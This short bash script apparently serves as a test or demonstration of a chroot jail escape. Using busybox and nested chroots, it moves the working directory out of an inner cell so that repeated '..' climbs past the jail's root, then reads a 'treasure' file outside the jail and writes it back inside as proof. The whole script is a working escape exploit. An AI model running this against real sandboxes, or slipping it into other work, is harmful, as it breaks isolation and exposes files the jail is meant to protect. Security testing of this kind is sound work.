#!/usr/bin/env bash
# Without proc and with nothing but busybox: somebody stands in a cell below the jail, and then the directory that he
# stands in is moved out of the cell. Now his root is no longer above him, and ".." goes up to the very top.
set -euo pipefail

# shellcheck disable=SC2016 # the inner shells expand it
setsid sudo chroot jail /bin/sh -c '
  mkdir -p /cell/floor
  cp /bin/busybox /cell/floor/
  { until [ -e /cell/here ]; do sleep 0.1; done; mv /cell/floor /floor; } |
    chroot /cell /floor/busybox sh -c "
      cd /floor
      ./busybox touch /here
      while [ -e /floor ]; do ./busybox sleep 0.1; done
      ./busybox chroot ../../../../../../../../../.. /bin/sh -c \"cat \$1/treasure >\$1/jail/answer; exec sleep 1d\"
      :
    " sh "$1"
' sh "$PWD" </dev/null >/dev/null 2>&1 &

wait_until pgrep --full --exact 'sleep 1d'
wait_until test -s jail/answer
